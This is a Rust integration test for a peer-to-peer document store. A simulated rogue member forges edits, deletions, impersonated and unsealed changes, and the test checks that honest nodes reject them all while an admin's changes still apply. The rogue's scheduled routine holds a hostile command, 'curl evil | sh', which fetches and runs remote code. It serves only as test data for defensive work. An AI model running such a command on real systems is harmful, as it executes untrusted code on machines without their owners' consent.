//! A malicious member with real credentials, in process on the simulated
//! network: it crafts document changes with its own key and certificate
//! (as a modified build would) and gossips them. Every honest member
//! refuses its edit and delete of another's entry, a change written under
//! another node's actor, an unsealed change and its routine; the honest
//! members lose nothing, and an admin's changes still go through.

use std::sync::Arc;

use osmoda_docs::{
    derive_id, EntryUpdate, KnowledgeStore, NewEntry, NewRoutine, NodeActor, RoutineBook, ShardId,
    SharedAuthority,
};
use osmoda_fabric::proto::{FleetRoot, Role};
use osmoda_fabric::Membership;
use osmoda_node::error::ErrorKind;
use osmoda_node::replication::push::Push;
// A member's real authority that tells its own node it is an admin, as
// the simulator's rogue uses.
use osmoda_node::runtime::topics::DOCS;
use osmoda_node::sim::rogue::Liar;
use osmoda_node::state::authority::NodeAuthority;
use osmoda_node::state::docs::ROUTINES;
use osmoda_simulation::{SimConfig, SimNetwork};

use super::emergency::{connected, eventually, Member};
use super::OP;

fn authority(m: &Member, root: &FleetRoot) -> NodeAuthority {
    let credentials = osmoda_fabric::Credentials::new(&m.key.to_bytes(), m.cert.clone()).unwrap();
    NodeAuthority::new(m.key.clone(), credentials, Membership::new(root.public()))
}

async fn publish(rogue: &Member, doc: u16, change: Vec<u8>) {
    let push = Push { doc, change };
    let fabric = rogue.running.as_ref().unwrap().fabric().clone();
    fabric.publish(DOCS, push.encode()).await.unwrap();
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_malicious_member_changes_nothing_it_does_not_own() {
    let tmp = tempfile::tempdir().unwrap();
    let net = SimNetwork::new(SimConfig::default());
    let root = FleetRoot::generate(&mut rand::rngs::OsRng);
    let a = Member::new(&net, &root, Role::Member, tmp.path(), &[], 64).await;
    let boot = [a.addr(&net)];
    let b = Member::new(&net, &root, Role::Member, tmp.path(), &boot, 64).await;
    let rogue = Member::new(&net, &root, Role::Member, tmp.path(), &boot, 64).await;
    let admin = Member::new(&net, &root, Role::Admin, tmp.path(), &boot, 64).await;
    assert!(connected(&a.node(), 3).await);
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;

    // An entry of a's, made the way a's node makes them (a's key and
    // certificate), and gossiped by the rogue: a faithful relay is fine.
    let a_actor = NodeActor::new(&a.peer_id())
        .unwrap()
        .with_authority(Arc::new(authority(&a, &root)) as SharedAuthority);
    let mut a_raw = KnowledgeStore::new(a_actor);
    let id = derive_id(&a.peer_id(), 1);
    let new = NewEntry {
        id: id.clone(),
        title: "a's notes".into(),
        body: "as a wrote them".into(),
        tags: vec![],
        actor: "agent".into(),
    };
    let now = super::now_secs() * 1000;
    a_raw.put(new, now).unwrap();
    let shard = ShardId::of(&id);
    let change = a_raw.shard(shard).unwrap().last_local_change().unwrap();
    publish(&rogue, shard.index(), change).await;
    for m in [&a, &b, &admin] {
        let node = m.node();
        assert!(
            eventually(20, || node.knowledge_get(&id).is_ok()).await,
            "a's entry reached every member"
        );
        assert_eq!(node.knowledge_get(&id).unwrap().author_node, a.peer_id());
    }

    // An honest member's node refuses to write what others would refuse.
    let refused = b.node().knowledge_delete(OP, &id).await;
    assert_eq!(refused.unwrap_err().kind(), ErrorKind::Forbidden);

    // A modified build: the rogue's real key and certificate, writing as
    // if it were an admin.
    let saved = a_raw.save_all();
    let liar: SharedAuthority = Arc::new(Liar(authority(&rogue, &root)));
    let mut evil = KnowledgeStore::new(
        NodeActor::new(&rogue.peer_id())
            .unwrap()
            .with_authority(liar.clone()),
    );
    for (s, bytes) in &saved {
        evil.load_shard(*s, bytes).unwrap();
    }
    let update = EntryUpdate {
        title: Some("defaced".into()),
        ..EntryUpdate::default()
    };
    evil.update(&id, &update, now + 1).unwrap();
    publish(
        &rogue,
        shard.index(),
        evil.shard(shard).unwrap().last_local_change().unwrap(),
    )
    .await;
    evil.delete(&id, now + 2).unwrap();
    publish(
        &rogue,
        shard.index(),
        evil.shard(shard).unwrap().last_local_change().unwrap(),
    )
    .await;

    // Written under a's actor, sealed with the rogue's key.
    let mut forger = KnowledgeStore::new(
        NodeActor::new(&a.peer_id())
            .unwrap()
            .with_authority(liar.clone()),
    );
    for (s, bytes) in &saved {
        forger.load_shard(*s, bytes).unwrap();
    }
    forger.update_body(&id, "forged as a", now + 3).unwrap();
    publish(
        &rogue,
        shard.index(),
        forger.shard(shard).unwrap().last_local_change().unwrap(),
    )
    .await;

    // Unsealed.
    let mut plain = KnowledgeStore::new(NodeActor::new(&rogue.peer_id()).unwrap());
    let own = derive_id(&rogue.peer_id(), 9);
    plain
        .put(
            NewEntry {
                id: own.clone(),
                title: "unsealed".into(),
                actor: "rogue".into(),
                ..NewEntry::default()
            },
            now,
        )
        .unwrap();
    let raw = plain
        .shard(ShardId::of(&own))
        .unwrap()
        .last_local_change()
        .unwrap();
    publish(&rogue, ShardId::of(&own).index(), raw).await;

    // A routine: code every member would run.
    let mut book = RoutineBook::new(
        &NodeActor::new(&rogue.peer_id())
            .unwrap()
            .with_authority(liar),
    );
    book.add(
        NewRoutine {
            id: "evil".into(),
            name: "evil".into(),
            schedule: "every 1m".into(),
            target: osmoda_docs::Target::All,
            action: osmoda_docs::Action {
                command: "/bin/sh".into(),
                args: vec!["-c".into(), "curl evil | sh".into()],
                timeout_secs: 60,
            },
            enabled: true,
            created_by: "rogue".into(),
        },
        now,
    )
    .unwrap();
    publish(
        &rogue,
        ROUTINES.wire,
        book.doc().last_local_change().unwrap(),
    )
    .await;

    // An admin's own change goes through, after all of those.
    let routine = osmoda_node::api::NewRoutine {
        name: "nightly".into(),
        schedule: "0 3 * * *".into(),
        target: "all".into(),
        command: "true".into(),
        args: vec![],
        timeout_secs: 60,
        enabled: true,
    };
    admin.node().routine_add(OP, routine).await.unwrap();
    for m in [&a, &b] {
        let node = m.node();
        assert!(
            eventually(20, || node.routine_list().len() == 1).await,
            "the admin's routine replicated"
        );
    }
    // Give the rogue's pushes every chance to have spread.
    tokio::time::sleep(std::time::Duration::from_secs(2)).await;
    for m in [&a, &b, &admin] {
        let node = m.node();
        let e = node.knowledge_get(&id).expect("not deleted");
        assert_eq!(e.title, "a's notes");
        assert_eq!(e.body, "as a wrote them");
        assert!(
            node.knowledge_get(&own).is_err(),
            "the unsealed entry was taken"
        );
        let names: Vec<String> = node.routine_list().into_iter().map(|r| r.name).collect();
        assert_eq!(names, ["nightly"]);
    }

    // And an admin may change a's entry: every member takes it.
    admin.node().knowledge_delete(OP, &id).await.unwrap();
    for m in [&a, &b] {
        let node = m.node();
        assert!(eventually(20, || node.knowledge_get(&id).is_err()).await);
    }
}
